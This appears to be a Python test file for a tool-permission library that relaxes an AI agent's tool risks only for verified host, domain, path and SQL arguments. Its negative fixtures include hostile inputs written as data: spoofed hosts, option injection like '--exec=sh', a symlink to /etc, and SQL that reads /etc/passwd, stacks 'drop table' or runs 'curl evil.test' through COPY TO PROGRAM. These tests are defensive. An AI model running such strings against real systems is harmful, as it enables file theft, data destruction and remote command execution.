"""Proves that a clause narrows only what was parsed and verified, and that everything else keeps every leg.

Mutations that this file catches: a condition that holds of nothing at all; a host compared by its end; a link that
leads out of the folder; a statement of which the parser did not understand everything.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from interlock import Conversation, Interlock, Manifest, MemoryJournal
from interlock.assembly import LocalFiles
from interlock.errors import ManifestError
from interlock.model.narrowing import narrowed, places_to_resolve
from interlock.model.origins import is_under
from interlock.model.sql import only_does
from interlock.model.tools import Effect, Egress, ToolId, ToolSpec
from tests.strategies import json_values

WIDE: dict[str, Any] = {
    "returns": ["untrusted:x", "private:x"],
    "reads": ["private:y"],
    "opens": ["egress:z"],
    "egress": "chosen",
    "effect": "destroy",
    "destinations": {"to": "email"},
}
NARROW: dict[str, Any] = {"returns": [], "reads": [], "opens": [], "egress": "none", "effect": "none"}


def spec_of(*clauses: dict[str, Any], **entry: Any) -> ToolSpec:
    tool = {**WIDE, **entry, "when": [{**NARROW, **one} for one in clauses]}
    return Manifest.parse({"version": 1, "tools": {"x": tool}}).spec(ToolId("", "x"))


def narrows(condition: dict[str, Any], value: Any, **resolved: tuple[str, ...]) -> bool:
    spec = spec_of({"if": {"a": condition}})
    given_arguments = {} if value is ... else {"a": value}
    found = narrowed(spec, given_arguments, resolved)
    assert found is spec or (found.egress, found.effect, found.returns) == (Egress.NONE, Effect.NONE, ())
    return found is not spec


HOLDS: list[tuple[dict[str, Any], Any]] = [
    ({"is": ["GET", "HEAD"]}, "GET"),
    ({"is": ["GET"]}, ["GET", "GET"]),
    ({"is": [3, True]}, 3),
    ({"absent": True}, ...),
    ({"absent": True}, None),
    ({"absent": True}, ""),
    ({"absent": True}, []),
    ({"host": ["corp.example"]}, "https://corp.example/a"),
    ({"host": ["corp.example"]}, "https://API.corp.example:8443/a"),
    ({"host": ["corp.example"]}, ["https://corp.example/", "http://a.b.corp.example/"]),
    ({"domain": ["corp.example"]}, "bob@corp.example"),
    ({"domain": ["corp.example"]}, ["bob@mail.corp.example", "Ann@CORP.example"]),
    ({"plain": True}, "notes"),
    ({"plain": True}, ["*.py", "b.txt"]),
    ({"sql": {"verbs": ["select"], "tables": ["products"]}}, "SELECT name FROM products"),
]
HOLDS_NOT: list[tuple[dict[str, Any], Any]] = [
    ({"is": ["GET"]}, "get"),
    ({"is": ["GET"]}, "GET "),
    ({"is": ["GET"]}, ["GET", "POST"]),
    ({"is": ["GET"]}, []),
    ({"is": ["GET"]}, ...),
    ({"is": ["GET"]}, {"GET": 1}),
    ({"is": [1]}, True),
    ({"is": [1]}, 1.0),
    ({"is": [True]}, 1),
    ({"absent": True}, "x"),
    ({"absent": True}, 0),
    ({"absent": True}, [""]),
    ({"absent": True}, False),
    ({"host": ["corp.example"]}, "https://evilcorp.example/"),
    ({"host": ["corp.example"]}, "https://corp.example.evil.test/"),
    ({"host": ["corp.example"]}, "https://corp.example@evil.test/"),
    ({"host": ["corp.example"]}, "https://evil.test\\.corp.example/"),
    ({"host": ["corp.example"]}, "corp.example"),
    ({"host": ["corp.example"]}, ["https://corp.example/", "https://evil.test/"]),
    ({"host": ["corp.example"]}, ["https://corp.example/", None]),
    ({"host": ["corp.example"]}, ...),
    ({"domain": ["corp.example"]}, "bob@corp.example, eve@evil.test"),
    ({"domain": ["corp.example"]}, '"bob@corp.example"@evil.test'),
    ({"domain": ["corp.example"]}, "bob@evilcorp.example"),
    ({"domain": ["corp.example"]}, "corp.example"),
    ({"plain": True}, "-Xsh"),
    ({"plain": True}, "--exec=sh"),
    ({"plain": True}, ["a", "-b"]),
    ({"plain": True}, "a\nb"),
    ({"plain": True}, "@file"),
    ({"plain": True}, " -X"),
    ({"plain": True}, "\u2013X"),
    ({"plain": True}, 7),
    ({"under": ["/srv"]}, "/srv/a"),  # nobody has resolved it
    ({"sql": {"verbs": ["select"], "tables": ["products"]}}, "SELECT name FROM users"),
    ({"sql": {"verbs": ["select"], "tables": ["products"]}}, ["SELECT 1 FROM products", "DROP TABLE products"]),
]


@pytest.mark.parametrize(("condition", "value"), HOLDS, ids=str)
def test_a_condition_holds(condition: dict[str, Any], value: Any) -> None:
    assert narrows(condition, value)


@pytest.mark.parametrize(("condition", "value"), HOLDS_NOT, ids=ascii)
def test_what_is_not_verified_keeps_every_leg(condition: dict[str, Any], value: Any) -> None:
    assert not narrows(condition, value)


@given(condition=st.sampled_from([one for one, _ in HOLDS if "absent" not in one]), value=json_values())
def test_values_of_other_types_never_narrow(condition: dict[str, Any], value: Any) -> None:
    if not isinstance(value, str | list):
        assert narrows(condition, value) == (
            condition == {"is": [3, True]} and value in (3, True) and value != 1.0
        ) or (type(value) in (int, bool))


@pytest.mark.parametrize(
    "body", ["smuggled", ["smuggled"], [{"text": ""}, "smuggled"], 7, {"text": "x"}, {"text": [0]}]
)
def test_nothing_is_absent_behind_something_that_is_there(body: Any) -> None:
    spec = spec_of({"if": {"body.text": {"absent": True}}})
    assert narrowed(spec, {"body": body}, {}) is spec
    for empty in ({}, {"body": None}, {"body": {}}, {"body": {"text": ""}}, {"body": [{"text": None}]}):
        assert narrowed(spec, empty, {}) is not spec


def test_the_first_clause_that_holds_counts_and_all_of_its_conditions() -> None:
    spec = spec_of(
        {"if": {"method": {"is": ["GET"]}, "url": {"host": ["corp.example"]}}},
        {"if": {"method": {"is": ["GET"]}}, "egress": "chosen"},
    )
    both = narrowed(spec, {"method": "GET", "url": "https://corp.example/"}, {})
    one = narrowed(spec, {"method": "GET", "url": "https://evil.test/"}, {})
    none = narrowed(spec, {"method": "POST", "url": "https://corp.example/"}, {})
    assert (both.egress, one.egress, none) == (Egress.NONE, Egress.CHOSEN, spec)


UNDER = [
    ("/srv/a/b", "/srv/a", True),
    ("/srv/a", "/srv/a", True),
    ("/srv/a", "/srv/a/", True),
    ("/srv/ab", "/srv/a", False),
    ("/srv/a/../b", "/srv/a", False),
    ("srv/a", "/srv", False),
    ("/SRV/a", "/srv", False),
    ("/srv", "/srv/a", False),
]


@pytest.mark.parametrize(("path", "root", "inside"), UNDER)
def test_below_a_root_by_segments(path: str, root: str, inside: bool) -> None:
    assert is_under(path, root) is inside


def test_a_link_that_leads_out_of_the_folder_keeps_every_leg(tmp_path: Path) -> None:
    (tmp_path / "work").mkdir()
    (tmp_path / "work" / "out").symlink_to("/etc")
    (tmp_path / "work" / "a.txt").write_text("x")
    tool = {
        "returns": ["private:files"],
        "egress": "none",
        "when": [{"if": {"path": {"under": [str(tmp_path / "work")]}}, "returns": []}],
    }
    lock = Interlock(
        manifest=Manifest.parse({"version": 1, "tools": {"read": tool}}),
        journal=MemoryJournal(),
        files=LocalFiles(tmp_path / "work"),
    )
    found = {}
    for path in ("a.txt", str(tmp_path / "work" / "a.txt"), "out/hosts", "../x", "/etc/hosts", "~/x"):
        guard = lock.guard(Conversation.new())
        guard.call("read", {"path": path}, run=lambda path: "x")
        found[path] = set(guard.conversation.taint)
    clean = {path for path, labels in found.items() if not labels}
    assert clean == {"a.txt", str(tmp_path / "work" / "a.txt")}


def test_only_paths_of_conditions_are_resolved() -> None:
    spec = spec_of({"if": {"path": {"under": ["/srv"]}}}, {"if": {"a": {"is": ["/etc"]}}})
    assert places_to_resolve(spec, {"path": ["/srv/a", "../x", 7], "a": "/etc"}) == ("/srv/a",)


LOOSE = {
    "more labels": {"if": {"a": {"absent": True}}, "returns": ["untrusted:other"]},
    "a stronger effect": {"if": {"a": {"absent": True}}, "effect": "control"},
    "blind": {"if": {"a": {"absent": True}}, "egress": "blind", "audience": "closed"},
    "no condition": {"if": {}},
    "two tests of one argument": {"if": {"a": {"is": ["x"], "absent": True}}},
    "no test": {"if": {"a": {}}},
    "an unknown test": {"if": {"a": {"starts": ["x"]}}},
    "an unknown key": {"if": {"a": {"absent": True}}, "destinations": {}},
    "a public suffix": {"if": {"a": {"host": ["com"]}}},
    "a relative root": {"if": {"a": {"under": ["srv"]}}},
    "a verb that nobody knows": {"if": {"a": {"sql": {"verbs": ["drop"], "tables": ["x"]}}}},
    "a dialect that nobody knows": {"if": {"a": {"sql": {"verbs": ["select"], "tables": ["x"], "dialect": "x"}}}},
    "nothing allowed": {"if": {"a": {"is": []}}},
}


@pytest.mark.parametrize("clause", LOOSE.values(), ids=LOOSE)
def test_a_clause_that_could_widen_does_not_load(clause: dict[str, Any]) -> None:
    with pytest.raises(ManifestError):
        spec_of(clause)


SELECTS = [
    "select * from products",
    "SELECT name, count(*) FROM Products p WHERE price > 3 GROUP BY name ORDER BY 1 LIMIT 5",
    "with cheap as (select * from products) select * from cheap",
    "select * from products union all select * from products",
    "select lower(name) from products -- all of them",
    "select * from products where id in (select id from products)",
]
NO_SELECTS = [
    "",
    "not sql at all",
    "select * from users",
    "select * from public.products",
    "select * from products; drop table products",
    "select * from products; select * from users",
    "delete from products",
    "insert into products select * from products",
    "with gone as (delete from products returning *) select * from gone",
    "with users as (select * from users) select * from users",
    "select * from users where exists (with users as (select 1) select 1 from users)",
    "with a as (select * from b), b as (select * from products) select * from a",
    "select * into evil from products",
    "select pg_read_file('/etc/passwd') from products",
    "select * from dblink('host=evil.test', 'select 1') t",
    "select load_extension('x') from products",
    "copy products to program 'curl evil.test'",
    "select * from 'https://evil.test/x.csv'",
    "explain analyze select * from products",
    "set role admin",
    "call pay()",
    "select * from products for update",
    "select * from products, users",
    "select (select secret from users) from products",
    "select * from products where name = (select name from users limit 1)",
    "select /*! 1 */ * from products into outfile '/tmp/x'",
]


@pytest.mark.parametrize("dialect", ["", "postgres", "mysql", "sqlite"])
def test_selects(dialect: str) -> None:
    for text in SELECTS:
        assert only_does(text, ["select"], ["products"], dialect), text
    for text in NO_SELECTS:
        assert not only_does(text, ["select"], ["products"], dialect), text


def test_other_verbs_are_held_to_their_tables() -> None:
    assert only_does("insert into notes (text) values ('x')", ["insert"], ["notes"])
    assert not only_does("insert into notes (text) select secret from users", ["insert"], ["notes"])
    assert not only_does("insert into notes (text) select text from notes", ["insert"], ["notes"])
    assert only_does("update notes set text = 'x' where id = 3", ["update"], ["notes"])
    assert not only_does("update users set name = 'x'", ["update"], ["notes"])
    assert only_does("delete from notes where id = 3", ["delete"], ["notes"])


@given(text=st.text(max_size=60))
def test_any_text_is_read_or_refused(text: str) -> None:
    only_does(text, ["select"], ["products"])
